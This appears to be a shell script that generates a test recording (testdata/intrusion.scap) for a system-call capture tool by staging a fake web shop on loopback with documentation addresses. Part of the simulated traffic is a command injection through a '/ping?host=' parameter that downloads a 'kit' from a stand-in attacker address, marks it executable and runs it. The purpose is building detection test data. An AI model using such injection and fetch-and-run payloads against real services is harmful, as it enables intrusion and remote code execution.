#!/bin/sh
# Makes testdata/intrusion.scap: records a made-up web shop while it is visited and broken into, as root,
# then leaves only what belongs to it (tests/sample.rs). Visitors and the attacker are not recorded, as they
# would be other machines: they have addresses for documents (RFC 5737). Needs bash, curl, perl, setpriv, ip.
set -eu
here=$(cd "$(dirname "$0")" && pwd)
root=$here/../..
cargo build --release --manifest-path "$root/Cargo.toml"
work=$(mktemp -d)
mkdir -p /tmp/shop/pages
attacker=
for address in 192.0.2.10 198.51.100.23 198.51.100.77 203.0.113.66; do
    ip address add $address/32 dev lo
done
finish() {
    [ -z "$attacker" ] || kill $attacker 2>/dev/null || true
    pkill -f attacker.pl || true
    for address in 192.0.2.10 198.51.100.23 198.51.100.77 203.0.113.66; do
        ip address del $address/32 dev lo
    done
    rm -rf "$work" /tmp/shop /usr/bin/scap.sample
}
trap finish EXIT
# The program's own path is in the snapshot.
cp "${CARGO_TARGET_DIR:-$root/target}/release/scap" /usr/bin/scap.sample
cp "$here/shop.pl" "$here/machine.sh" /tmp/shop
echo '<h1>Welcome</h1>' > /tmp/shop/pages/index.html
echo '<h1>Teapots</h1>' > /tmp/shop/pages/teapots.html
cp "$here/kit.sh" "$work/kit"
chmod 644 /tmp/shop/*.*
chown -R nobody:nogroup /tmp/shop
# Names of cgroups are in clone and execve events.
for procs in /sys/fs/cgroup/*/cgroup.procs /sys/fs/cgroup/cgroup.procs; do
    [ -e "$procs" ] && echo $$ > "$procs"
done
perl "$here/attacker.pl" "$work/kit" &
attacker=$!
cd /tmp/shop
env -i PATH=/usr/bin:/bin TZ=UTC /usr/bin/scap.sample record -q -w "$work/raw.scap" -- \
    setpriv --reuid=nobody --regid=nogroup --clear-groups bash machine.sh \
    </dev/null >/dev/null 2>/dev/null &
recorder=$!
visit() {
    curl -q -s --interface "$1" -o /dev/null "http://192.0.2.10:8080$2"
}
sleep 2
for round in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 22 23 24; do
    visit 198.51.100.23 /index.html
    visit 198.51.100.23 /teapots.html
    [ $((round % 5)) -ne 0 ] || visit 198.51.100.77 /favicon.ico
    if [ $round = 13 ]; then
        visit 198.51.100.77 '/ping?host=127.0.0.1;id'
        fetch='curl%20-s%20-o%20/tmp/.cache-upd%20http://203.0.113.66/kit'
        visit 198.51.100.77 "/ping?host=127.0.0.1;$fetch;chmod%20755%20/tmp/.cache-upd;/tmp/.cache-upd" &
    fi
    sleep 0.5
done
touch stop
wait $recorder
cd "$root"
SCAP_SAMPLE_FROM=$work/raw.scap SCAP_SAMPLE_TO=testdata/intrusion.scap \
    cargo test --test cli -- --ignored sample::make_sample
